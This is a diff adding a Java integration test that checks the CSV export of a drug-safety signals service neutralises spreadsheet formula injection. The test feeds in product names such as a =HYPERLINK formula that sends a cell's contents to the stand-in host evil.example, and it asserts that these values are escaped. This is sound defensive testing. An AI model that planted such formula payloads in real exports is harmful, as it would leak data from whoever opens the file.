@@ -103,6 +103,31 @@ class CaseSignalsIT extends RunningExovigil {
                 .contains("\"Sigtest \"\"Quoted\"\", Serum\",sigtest itch,1,1,1,");
     }
 
+    /** Issue 15 finding 9: a product named as a formula ran in the researcher's spreadsheet. */
+    @Test
+    void aNameThatASpreadsheetWouldRunIsNeutralisedInTheDownloadAndShownAsReported() throws Exception {
+        String formula = "=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Sigtest\\\")";
+        receive("SIG-FORMULA-1", formula, "@sigtest formula", null, null);
+        receive("SIG-FORMULA-2", "-Sigtest Minus", "+sigtest plus", null, null);
+        String token = tokens.issue("signals-formula-reader", Role.RESEARCHER);
+
+        var response = java.net.http.HttpClient.newHttpClient()
+                .send(
+                        java.net.http.HttpRequest.newBuilder(java.net.URI.create(url("/research/signals.csv")))
+                                .header("Authorization", "Bearer " + token)
+                                .build(),
+                        java.net.http.HttpResponse.BodyHandlers.ofString());
+
+        assertThat(response.statusCode()).isEqualTo(200);
+        assertThat(response.body())
+                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Sigtest\"\")\",'@sigtest formula,1,")
+                .contains("'-Sigtest Minus,'+sigtest plus,1,");
+        assertThat(response.body().lines().map(line -> line.substring(0, 1)))
+                .noneMatch(first -> "=+-@\t\r".contains(first));
+        assertThat(pair("=HYPERLINK(\"https://evil.example/?\"&A1,\"Sigtest\")", "@sigtest formula"))
+                .isPresent();
+    }
+
     private Optional<SignalRow> pair(String product, String event) {
         return signals.current().rows().stream()
                 .filter(row -> row.product().equals(product) && row.event().equals(event))
